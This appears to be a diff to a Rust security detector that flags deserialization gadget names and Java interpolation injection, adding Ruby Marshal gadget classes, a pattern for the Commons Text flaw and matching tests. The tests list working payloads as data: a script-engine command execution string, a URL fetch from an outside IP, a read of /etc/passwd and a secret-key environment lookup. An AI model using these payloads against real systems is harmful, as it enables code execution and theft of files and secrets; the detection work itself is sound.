@@ -24,7 +24,8 @@ pub(crate) struct Java {
 /// `ProcessBuilder`) that no ordinary value carries, base64-encoded or not; the function
 /// marker of node-serialize (`_$$ND_FUNC$$_`), whose objects run code when read back and
 /// travel base64-encoded in cookies too; the .NET gadgets of ViewState and BinaryFormatter
-/// payloads; the RubyGems classes of Ruby's universal Marshal chain; and the pickle opcodes
+/// payloads; the RubyGems classes of Ruby's universal Marshal chain and the ActiveSupport
+/// proxy that renders an ERB template when read back; and the pickle opcodes
 /// that import a command runner (`cos\nsystem`, protocol 4's `\x8c\x05posix`).
 const GADGETS: &[&[u8]] = &[
     b"_$$nd_func$$_",
@@ -41,6 +42,10 @@ const GADGETS: &[&[u8]] = &[
     b"gem::package::tarreader",
     b"net::bufferedio",
     b"gem::specfetcher",
+    b"gem::installer",
+    b"gem::requestset",
+    b"net::writeadapter",
+    b"deprecatedinstancevariableproxy",
     b"cos\nsystem",
     b"cposix\nsystem",
     b"cnt\nsystem",
@@ -98,6 +103,14 @@ impl Java {
             (
                 JAVA_JNDI,
                 r"\$\{\s*(?:jndi|ldap|ldaps|rmi|dns|iiop|corba|nds|nis|lower|upper|ctx|base64|env)\s*:(?:[^-]|$)",
+            ),
+            // Apache Commons Text's interpolator (CVE-2022-42889): `${script:javascript:…}`
+            // runs code, `${url:UTF-8:http://…}` fetches and `${file:UTF-8:/etc/…}` reads. The
+            // engine or charset between two colons is what none of the `${file:…}` references of
+            // configuration files have.
+            (
+                JAVA_JNDI,
+                r"\$\{\s*(?:script|url|file)\s*:\s*[a-z][a-z0-9_.-]{0,20}\s*:",
             ),
             (
                 JAVA_JNDI,
@@ -363,6 +376,7 @@ mod tests {
             "invokertransformer",
             "xProcessBuilder",
             "ab.whileclosure.c",
+            "\x04\x08o:@ActiveSupport::Deprecation::DeprecatedInstanceVariableProxy",
             "{\"u\":\"_$$ND_FUNC$$_function(){}()\"}",
         ] {
             // The name at each of the three byte offsets of a base64 group.
@@ -436,6 +450,17 @@ mod tests {
             &[
                 "${env:AWS_SECRET_ACCESS_KEY}",
                 "${${env:x:-j}ndi:ldap://x/a}",
+                "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
+                "${url:UTF-8:http://198.51.100.7/x}",
+                "${file:utf-8:/etc/passwd}",
+            ],
+        );
+        // Configuration references with no engine or charset segment.
+        silent(
+            "java",
+            &[
+                "${file:secrets/token.txt}",
+                "password: ${file:/run/secrets/db}",
             ],
         );
     }
